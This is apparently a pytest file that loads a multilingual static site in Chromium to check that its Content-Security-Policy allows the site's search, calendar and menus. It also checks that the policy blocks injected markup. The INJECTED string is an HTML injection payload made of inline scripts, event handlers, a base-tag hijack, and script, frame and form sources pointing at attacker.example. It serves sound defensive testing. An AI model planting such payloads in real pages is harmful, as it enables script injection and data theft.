"""The Content-Security-Policy in Chromium.

Nothing the site does is refused: searches with results (in Pagefind's web worker and, when the worker
fails, in the page; each language finds its own pages only), the calendar's re-sort, the language switcher, Material's header and tooltips (every
page of every kind in every language is loaded under the policy in test_browser_reader.py). And the policy bites: inline scripts, event handlers, foreign
scripts, frames, styles, <base>, plugins and forms added to a built page are refused."""

from __future__ import annotations

import datetime as dt
import shutil
import time
from contextlib import contextmanager
from urllib.parse import urlsplit

import pytest

from browser import chromium_page, serve_like_github_pages, watch_policy
from conftest import HOME_TITLES, LANGUAGES, SITE_URL, Built, build_site
from fixture_content import write_fixture_content

ROOTS = {lang: "" if lang == "en" else f"{lang}/" for lang in LANGUAGES}
MOUNT = "/" + SITE_URL.split("/", 3)[3]  # "/clusters-site/": served under its sub-path, as on GitHub Pages
QUERIES = {"en": "clusters4health", "uk": "картування", "bg": "София", "ro": "lantului", "pl": "Witamy"}
ABOUT = {"en": "About", "uk": "Про нас", "bg": "За нас", "ro": "Despre", "pl": "O nas"}


def write_site(site) -> None:
    write_fixture_content(site)
    for lang in LANGUAGES:
        site.write(f"{lang}/index.md", {"title": HOME_TITLES[lang]}, "Witamy.\n" if lang == "pl" else "Welcome.\n")
        site.write(f"{lang}/about.md", {"title": ABOUT[lang]},  # headings: their permalinks have tooltips
                   "".join(f"## Part {n}\n\n" + "A line of text.\n\n" * 30 for n in range(1, 4)))
    site.write("en/news/index.md", {"title": "News"}, "What the network is doing.\n")  # a section's introduction


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Built:
    return build_site(tmp_path_factory, "csp", write_site)


@contextmanager
def watched_page(chromium):
    """A Chromium page that collects CSP violations in `page.violations` and started workers in `page.started_workers`,
    besides console errors in `page.problems`."""
    with chromium_page(chromium) as page:
        watch_policy(page)
        page.started_workers = []
        page.on("worker", lambda worker: page.started_workers.append(worker.url))
        yield page


def search(page, query: str) -> tuple[list[str], str]:
    """The addresses of the results of `query` on the search page shown, and what the page says of them."""
    page.fill("#cn-search-input", query)
    status = page.locator(".cn-search__status")
    # The count is said once the results are on the page.
    page.wait_for_function("s => s.textContent && !s.textContent.includes('…')", arg=status.element_handle())
    return page.locator(".cn-result__title a").evaluate_all("links => links.map(a => a.pathname)"), status.inner_text()


def language_of(path: str) -> str:
    """The language of the page at `path` (under the site's sub-path)."""
    first = path.removeprefix(MOUNT).split("/")[0]
    return first if first in ROOTS and first != "en" else "en"


def test_what_pages_do_runs_under_the_policy(built, chromium):
    """What scripts do on pages, under the policy (every page of every kind in every language loads
    under it in test_browser_reader.py): the calendar's re-sort, GitHub Pages' 404, Material's tooltips
    and scroll handlers, a section's introduction, searches in every language (which find that language's
    pages only) and the switcher."""
    with serve_like_github_pages(built.site, MOUNT) as base, watched_page(chromium) as page:
        page.clock.set_fixed_time(dt.datetime(2025, 7, 15, 9, 0))  # the calendar's script re-sorts events
        page.goto(f"{base}events/")  # built on 1 July, read on 15 July
        assert "Week in progress" in page.locator('[data-cn-events="past"] .cn-entry__title a').all_inner_texts()
        response = page.goto(f"{base}uk/no-such-page/")  # GitHub Pages answers with the root 404.html, whose
        assert response.status == 404  # script shows the Ukrainian one (test_browser_not_found.py)
        page.wait_for_function("document.documentElement.lang === 'uk'")
        assert page.locator("h1").inner_text() == "Сторінку не знайдено"
        assert page.problems.pop().endswith("status of 404 (Not Found)")  # the page's own status
        page.goto(f"{base}about/")
        page.hover(".headerlink >> nth=1")  # Material's tooltip on a heading's permalink
        page.wait_for_selector(".md-tooltip2--active")
        page.mouse.wheel(0, 2000)  # Material's scroll handlers (header, table of contents) run under the policy
        page.wait_for_function("window.scrollY > 0")
        response = page.goto(f"{base}news/")
        assert response.status == 200 and "What the network is doing." in page.locator("article").inner_text()
        said = {}
        for lang, root in ROOTS.items():  # each language finds its own pages only, Cyrillic queries included
            page.goto(f"{base}{root}search/")
            found, said[lang] = search(page, QUERIES[lang])
            assert found and all(language_of(link) == lang for link in found), (lang, found)
            if lang in ("uk", "ro"):  # Romanian without its diacritics: "lanțului"
                assert found == [f"{MOUNT}{root}news/mapping-workshop/"], (lang, found)
            page.locator(".md-select").first.hover()
            other = LANGUAGES[(LANGUAGES.index(lang) + 1) % len(LANGUAGES)]
            page.click(f'a.md-select__link[hreflang="{other}"]')
            page.wait_for_url(f"{base}{ROOTS[other]}search/")
            assert page.url == f"{base}{ROOTS[other]}search/"
        page.goto(f"{base}uk/search/")
        found, _ = search(page, "clusters4health")
        assert found and all(language_of(link) == "uk" for link in found), found
        assert [url for url in page.started_workers if url.endswith("/pagefind/pagefind-worker.js")]
    assert said["uk"] == "1 результат за запитом картування"
    assert said["bg"].endswith("за София")
    assert page.violations == []
    assert page.problems == []


def test_search_in_the_page_when_pagefinds_worker_fails(built, chromium):
    """Pagefind falls back to WebAssembly in the page (also after a 5 s worker timeout on a slow phone):
    that is what 'wasm-unsafe-eval' is for."""
    with serve_like_github_pages(built.site, MOUNT) as base, watched_page(chromium) as page:
        page.route("**/pagefind-worker.js", lambda route: route.abort())
        page.goto(f"{base}uk/search/")
        assert search(page, "картування")[0] == [f"{MOUNT}uk/news/mapping-workshop/"]
    assert page.violations == []
    assert [problem for problem in page.problems if "pagefind-worker.js" not in problem] == []


INJECTED = """
<script>window.cnRan = "inline script";</script>
<img alt="" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="window.cnRan = 'event handler'">
<script src="https://attacker.example/steal.js"></script>
<iframe title="foreign" src="https://attacker.example/frame"></iframe>
<iframe title="allowed" src="https://www.youtube-nocookie.com/embed/x"></iframe>
<style>body { background: red; }</style>
<p style="color: red">styled</p>
<base href="https://attacker.example/">
<object data="https://attacker.example/plugin"></object>
<form action="https://attacker.example/collect"><button id="cn-submit">Send</button></form>
<a id="cn-javascript" href="javascript:window.cnRan = 'javascript: link'">link</a>
"""


SMUGGLED = [
    ("script-src-elem", "inline"), ("script-src-attr", "inline"), ("script-src-elem", "inline"),  # javascript:
    ("script-src-elem", "attacker.example"), ("frame-src", "attacker.example"), ("style-src-elem", "inline"),
    ("style-src-attr", "inline"), ("base-uri", "attacker.example"), ("object-src", "attacker.example"),
    ("form-action", "attacker.example"),
]
"""What the policy refuses in INJECTED: (directive, what was blocked)."""


def test_the_policy_refuses_what_an_article_could_smuggle_in(built, chromium, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(built.site, site)
    article = site / "news" / "mapping-workshop" / "index.html"
    html = article.read_text(encoding="utf-8")
    assert html.count("</article>") == 1
    article.write_text(html.replace("</article>", INJECTED + "</article>"), encoding="utf-8")
    with serve_like_github_pages(site, MOUNT) as base, watched_page(chromium) as page:
        requested = []
        page.route("https://**/*", lambda route: (requested.append(route.request.url),
                                                  route.fulfill(content_type="text/html", body="<p>frame</p>")))
        page.goto(f"{base}news/mapping-workshop/")
        page.click("#cn-javascript", no_wait_after=True)
        page.click("#cn-submit", no_wait_after=True)
        deadline = time.monotonic() + 30  # the reports come from the page as events: wait for all of them
        while len(page.violations) < len(SMUGGLED) and time.monotonic() < deadline:
            page.wait_for_timeout(50)
        page.wait_for_timeout(200)  # and for any other
        ran = page.evaluate("window.cnRan")
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert page.url == f"{base}news/mapping-workshop/"
    assert ran is None
    assert background != "rgb(255, 0, 0)"
    refused = sorted((violation["directive"], urlsplit(violation["blocked"]).netloc or violation["blocked"])
                     for violation in page.violations)
    assert refused == sorted(SMUGGLED)
    assert requested == ["https://www.youtube-nocookie.com/embed/x"]  # the one allowed embed
